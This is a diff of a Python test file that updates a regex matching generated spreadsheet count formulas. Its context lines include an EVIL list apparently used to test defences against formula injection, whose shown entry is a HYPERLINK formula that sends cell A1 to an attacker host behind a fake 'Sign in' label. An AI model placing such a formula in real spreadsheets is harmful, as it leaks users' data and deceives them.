@@ -13,8 +13,9 @@ from tests.made_up import comment, document, milestone, task, uuid
 from tests.world import World, wait_for
 
 COUNTED = re.compile(
-    r"=COUNTIFS\(Brightsheet_Milestone;\$A\d+(;Brightsheet_Status;[A-Z]+\$1)?"
-    r';Brightsheet_Site;"<>Copy of \*"\)'
+    r"=COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+"
+    r'(;Brightsheet_Status;[A-Z]+\$1(&": \*")?)?\)'
+    r'(\+COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+;Brightsheet_Status;[A-Z]+\$1&": \*"\))?'
 )
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
